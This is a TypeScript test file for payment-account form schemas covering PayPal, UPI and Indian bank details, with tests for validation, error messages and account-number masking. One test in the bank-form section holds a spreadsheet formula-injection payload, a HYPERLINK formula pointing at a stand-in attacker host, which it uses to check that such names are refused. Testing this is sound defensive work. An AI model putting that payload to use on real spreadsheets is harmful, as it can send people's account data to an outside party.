import { getZodConstraint, parseWithZod } from "@conform-to/zod";
import { describe, expect, test } from "vitest";
import {
  bankAccountSchema,
  maskAccountNumber,
  paymentAccountDetails,
  paymentAccountSummary,
  paypalAccountSchema,
  sameEmail,
  upiAccountSchema,
  type PaymentAccountFields,
} from "~/domain/payment-accounts";

// The add-forms' schemas (shared by the action and the browser) and what a member sees of a saved
// account. Parsed as the action parses them: conform over posted form data, coercion off.

const SIGN_UP_EMAIL = "asha.rao@example.com";

function parse(schema: Parameters<typeof parseWithZod>[1]["schema"], fields: Record<string, string>) {
  const formData = new FormData();
  for (const [name, value] of Object.entries(fields)) formData.append(name, value);
  return parseWithZod(formData, { schema, disableAutoCoercion: true });
}

/** The first message of each refused field. */
function errorsOf(submission: ReturnType<typeof parse>): Record<string, string> {
  expect(submission.status).toBe("error");
  const reply = submission.reply();
  return Object.fromEntries(Object.entries(reply.error ?? {}).map(([field, messages]) => [field, messages?.[0] ?? ""]));
}

const BANK = {
  holderName: "Asha Rao",
  bankName: "HDFC Bank",
  bankAccountNumber: "50100123456789",
  bankIfsc: "HDFC0001234",
};

describe("the PayPal form", () => {
  const schema = paypalAccountSchema(SIGN_UP_EMAIL);

  test("takes the sign-up email in any case and a trimmed holder name", () => {
    const submission = parse(schema, { holderName: "  Asha Rao ", paypalEmail: " Asha.Rao@Example.COM " });
    expect(submission.status).toBe("success");
    expect(submission.status === "success" && submission.value).toEqual({
      method: "paypal",
      holderName: "Asha Rao",
      paypalEmail: "asha.rao@example.com",
    });
  });

  test("refuses another email, an invalid one and missing fields, each with its own message", () => {
    expect(errorsOf(parse(schema, { holderName: "Asha Rao", paypalEmail: "asha@paypal.example" }))).toEqual({
      paypalEmail: `Your PayPal email must be the email you signed up with: ${SIGN_UP_EMAIL}`,
    });
    expect(errorsOf(parse(schema, { holderName: "Asha Rao", paypalEmail: "not-an-email" })).paypalEmail).toBe(
      "Enter a valid email address",
    );
    expect(errorsOf(parse(schema, {}))).toEqual({
      holderName: "Enter the account holder's name",
      paypalEmail: "Enter your PayPal email",
    });
    expect(errorsOf(parse(schema, { holderName: "   ", paypalEmail: "" }))).toEqual({
      holderName: "Enter the account holder's name",
      paypalEmail: "Enter your PayPal email",
    });
  });

  test("refuses an overlong holder name and control characters", () => {
    expect(errorsOf(parse(schema, { holderName: "A".repeat(101), paypalEmail: SIGN_UP_EMAIL })).holderName).toBe(
      "Must be at most 100 characters.",
    );
    expect(errorsOf(parse(schema, { holderName: "Asha\u0000Rao", paypalEmail: SIGN_UP_EMAIL })).holderName).toBe(
      "Contains characters that are not allowed.",
    );
  });
});

describe("the UPI form", () => {
  test.each(["asha.rao@okhdfcbank", "Asha_Rao-1@ybl", "98765.43210@UPI", "ab@cd"])("accepts %s", (upiId) => {
    const submission = parse(upiAccountSchema, { holderName: "Asha Rao", upiId: ` ${upiId} ` });
    expect(submission.status === "success" && submission.value).toEqual({
      method: "upi",
      holderName: "Asha Rao",
      upiId: upiId.toLowerCase(),
    });
  });

  const tooLong = `${"a".repeat(257)}@bank`;
  const invalid = ["asha", "a@bank", "asha@b", "asha@bank1", "asha rao@bank", "asha@@bank", "asha@ok.bank", "@bank"];
  test.each([...invalid, tooLong])("refuses %s", (upiId) => {
    expect(errorsOf(parse(upiAccountSchema, { holderName: "Asha Rao", upiId }))).toEqual({
      upiId: "Enter a valid UPI ID, such as name@bank",
    });
  });

  test("a missing UPI ID has its own message", () => {
    expect(errorsOf(parse(upiAccountSchema, { holderName: "Asha Rao", upiId: "  " }))).toEqual({
      upiId: "Enter your UPI ID",
    });
  });
});

describe("the bank form", () => {
  test("strips spaces from the account number and upper-cases the IFSC", () => {
    const typed = { ...BANK, bankAccountNumber: "5010 0123 4567 89", bankIfsc: " hdfc0001234 " };
    const submission = parse(bankAccountSchema, typed);
    expect(submission.status === "success" && submission.value).toEqual({ method: "bank", ...BANK });
  });

  test.each(["12345678", "1234567890123456789", "12345-67890", "ABCDEFGHIJ", "1234567890.5"])(
    "refuses the account number %s",
    (bankAccountNumber) => {
      expect(errorsOf(parse(bankAccountSchema, { ...BANK, bankAccountNumber }))).toEqual({
        bankAccountNumber: "Enter a valid account number: 9 to 18 digits",
      });
    },
  );

  test.each(["123456789", "123456789012345678"])(
    "accepts the account number %s (9 and 18 digits)",
    (bankAccountNumber) => {
      expect(parse(bankAccountSchema, { ...BANK, bankAccountNumber }).status).toBe("success");
    },
  );

  test.each(["HDFC1001234", "HDF00001234", "HDFC000123", "HDFC00012345", "1234O001234", "HDFC0-01234"])(
    "refuses the IFSC %s",
    (bankIfsc) => {
      expect(errorsOf(parse(bankAccountSchema, { ...BANK, bankIfsc }))).toEqual({
        bankIfsc: "Enter a valid IFSC: 11 characters, such as SBIN0001234",
      });
    },
  );

  // The names go into the payout batch file an admin opens in a spreadsheet: one that starts with
  // =, +, - or @ would run there as a formula (it could send other rows' account numbers away).
  test.each(['=HYPERLINK("https://evil.example/?"&B2,"Asha Rao")', "+91 Asha", "-Asha", "@SUM(A1)", "1 Asha"])(
    "refuses the holder name and bank name %s: they start with a letter",
    (name) => {
      expect(errorsOf(parse(bankAccountSchema, { ...BANK, holderName: name, bankName: name }))).toEqual({
        holderName: "Start the name with a letter, as your bank shows it",
        bankName: "Start the name with a letter, as your bank shows it",
      });
      expect(errorsOf(parse(upiAccountSchema, { holderName: name, upiId: "asha@okhdfc" }))).toEqual({
        holderName: "Start the name with a letter, as your bank shows it",
      });
    },
  );

  test("a name in Devanagari, or with digits and signs after its first letter, is a name", () => {
    const submission = parse(bankAccountSchema, { ...BANK, holderName: "आशा राव", bankName: "M/s Bank-2 & Co." });
    expect(submission.status).toBe("success");
  });

  test("every missing field has its own message", () => {
    expect(errorsOf(parse(bankAccountSchema, {}))).toEqual({
      holderName: "Enter the account holder's name",
      bankName: "Enter the bank name",
      bankAccountNumber: "Enter the account number",
      bankIfsc: "Enter the IFSC",
    });
  });

  test("a file posted in place of a text counts as missing, not as a crash", () => {
    const formData = new FormData();
    for (const [name, value] of Object.entries(BANK)) formData.append(name, value);
    formData.set("bankIfsc", new File(["x"], "ifsc.txt"));
    const submission = parseWithZod(formData, { schema: bankAccountSchema, disableAutoCoercion: true });
    expect(submission.reply().error).toEqual({ bankIfsc: ["Enter the IFSC"] });
  });
});

test("the browser gets required and length hints but no pattern: our messages, also without JavaScript", () => {
  const constraint = getZodConstraint(bankAccountSchema);
  expect(constraint.bankIfsc).toEqual({ required: true });
  expect(constraint.bankAccountNumber).toEqual({ required: true });
  expect(constraint.holderName).toMatchObject({ required: true, maxLength: 100 });
  expect(getZodConstraint(upiAccountSchema).upiId).toEqual({ required: true });
  expect(getZodConstraint(paypalAccountSchema(SIGN_UP_EMAIL)).paypalEmail).toMatchObject({ required: true });
});

test("emails are compared without regard to case or surrounding spaces", () => {
  expect(sameEmail(" Asha@Example.com", "asha@example.com ")).toBe(true);
  expect(sameEmail("asha@example.com", "asha@example.org")).toBe(false);
});

describe("what a member sees of a saved account", () => {
  const bank: PaymentAccountFields = {
    method: "bank",
    holderName: "Asha Rao",
    paypalEmail: null,
    upiId: null,
    bankName: "HDFC Bank",
    bankAccountNumber: "50100123456789",
    bankIfsc: "HDFC0001234",
  };

  test("an account number shows only its last 4 digits", () => {
    expect(maskAccountNumber("50100123456789")).toBe("••••••••••6789");
    expect(maskAccountNumber("123456789")).toBe("•••••6789");
    expect(maskAccountNumber("1234")).toBe("1234");
  });

  test("a bank account's lines: holder, bank, masked number, IFSC", () => {
    expect(paymentAccountDetails(bank)).toEqual([
      { label: "Account Holder Name", value: "Asha Rao" },
      { label: "Bank Name", value: "HDFC Bank" },
      { label: "Account Number", value: "••••••••••6789" },
      { label: "IFSC", value: "HDFC0001234" },
    ]);
    expect(JSON.stringify(paymentAccountDetails(bank))).not.toContain("50100123456789");
    expect(paymentAccountSummary(bank)).toBe("Bank · HDFC Bank ••••••••••6789");
  });

  test("PayPal and UPI accounts show their email and UPI ID", () => {
    const none = { paypalEmail: null, upiId: null, bankName: null, bankAccountNumber: null, bankIfsc: null };
    const paypal = { ...none, method: "paypal" as const, holderName: "Asha Rao", paypalEmail: SIGN_UP_EMAIL };
    expect(paymentAccountDetails(paypal)).toEqual([
      { label: "Account Holder Name", value: "Asha Rao" },
      { label: "PayPal Email", value: SIGN_UP_EMAIL },
    ]);
    expect(paymentAccountDetails({ ...none, method: "upi", holderName: "Asha Rao", upiId: "asha@ybl" })).toEqual([
      { label: "Account Holder Name", value: "Asha Rao" },
      { label: "UPI ID", value: "asha@ybl" },
    ]);
  });
});
